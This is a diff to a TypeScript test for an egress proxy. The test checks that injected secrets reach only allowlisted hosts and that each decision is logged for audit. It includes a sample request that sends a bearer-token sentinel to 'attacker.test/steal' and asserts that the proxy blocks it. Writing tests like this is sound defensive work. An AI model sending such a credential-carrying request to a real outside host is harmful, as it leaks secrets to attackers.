@@ -8,7 +8,7 @@ import { AuditLog } from '../../src/audit/log';
 import { EGRESS_AUDIT_EVENT, getEgressAuditFields } from '../../src/egress/audit';
 import { parseHostPatterns } from '../../src/egress/hosts';
 import { EgressProxy } from '../../src/egress/proxy';
-import { normalizeNetworkPolicy } from '../../src/egress/rules';
+import { normalizeNetworkPolicy, normalizeSecretBindings } from '../../src/egress/rules';
 import { createSentinel } from '../../src/egress/sentinel';
 import { execgate } from '../audit/helpers';
 import { makeTempDir } from '../helpers/tmp';
@@ -40,14 +40,14 @@ test('every decision is in the audit log under its run, with rule and injected r
   });
   const runId = 'run_egress_audit_1';
   const sentinel = createSentinel(VALUE);
-  audit.write('exec.started', { runId, command: 'curl -H "X: <<secret:api>>" http://allowed.test/', mode: 'sync', refs: [{ kind: 'secret', id: 'api', ref: '<<secret:api>>', found: true, source: 'memory' }] });
+  audit.write('exec.started', { runId, command: 'curl -H "Authorization: Bearer <<secret:api>>" http://allowed.test/', mode: 'sync', refs: [{ kind: 'secret', id: 'api', ref: '<<secret:api>>', found: true, source: 'memory' }] });
   const run = await proxy.openRun({
     runId,
     network: normalizeNetworkPolicy({ mode: 'allowlist', allow: ['allowed.test', 'rebind.test'] }),
-    injections: [{ ref: 'secret:api', value: VALUE, sentinel, hosts: parseHostPatterns(['allowed.test'], 'hosts') }],
+    injections: [{ ref: 'secret:api', value: VALUE, sentinel, hosts: parseHostPatterns(['allowed.test'], 'hosts'), binding: normalizeSecretBindings([{ ref: 'secret:api', hosts: ['allowed.test'], delivery: 'inject', http: ['allowed.test'] }])[0] }],
   });
-  expect(await getThrough(run, 'http://allowed.test/ok', { 'x-token': sentinel })).toBe(200);
-  expect(await getThrough(run, 'http://attacker.test/steal', { 'x-token': sentinel })).toBe(403);
+  expect(await getThrough(run, 'http://allowed.test/ok', { authorization: `Bearer ${sentinel}` })).toBe(200);
+  expect(await getThrough(run, 'http://attacker.test/steal', { authorization: `Bearer ${sentinel}` })).toBe(403);
   expect(await getThrough(run, 'http://rebind.test/', {})).toBe(403);
   audit.write('exec.finished', { runId, exitCode: 0, durationMs: 12 });
   await run.close();
